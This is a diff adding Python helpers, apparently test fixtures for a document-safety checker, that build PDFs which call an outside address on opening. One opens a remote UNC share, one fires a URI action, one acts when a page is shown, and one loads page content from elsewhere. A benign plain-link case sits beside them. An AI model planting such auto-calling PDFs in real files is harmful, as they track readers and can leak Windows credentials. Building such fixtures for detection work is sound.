@@ -110,6 +110,39 @@ def with_form_sending(document: pikepdf.Pdf) -> None:
     document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="http://example.com")
 
 
+def with_remote_page(document: pikepdf.Pdf) -> None:
+    """Let the PDF open a file of another machine as soon as it is opened."""
+    document.Root.OpenAction = pikepdf.Dictionary(
+        S=pikepdf.Name.GoToR, F="\\\\203.0.113.9\\share\\x.pdf", D=pikepdf.Array([0])
+    )
+
+
+def with_call_on_opening(document: pikepdf.Pdf) -> None:
+    """Let the PDF call an address as soon as it is opened."""
+    document.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://203.0.113.9/")
+
+
+def with_call_on_a_page(document: pikepdf.Pdf) -> None:
+    """Let the PDF call an address as soon as its first page is shown."""
+    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://203.0.113.9/")
+    document.pages[0].obj["/AA"] = pikepdf.Dictionary(O=action)
+
+
+def with_contents_elsewhere(document: pikepdf.Pdf) -> None:
+    """Let the contents of a page come from another machine."""
+    stream = document.make_stream(b"")
+    stream["/F"] = pikepdf.String("http://203.0.113.9/page")
+    document.pages[0].obj["/Contents"] = stream
+
+
+def with_plain_link(document: pikepdf.Pdf) -> None:
+    """Begin at the first page and hold a link that does nothing by itself."""
+    action = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://www.example.com/")
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, A=action)
+    document.pages[0].Annots = pikepdf.Array([link])
+    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])
+
+
 def archive(name: str = "word/document.xml", data: bytes = b"<w/>") -> bytes:
     """Return a zip archive, as office documents are."""
     target = io.BytesIO()
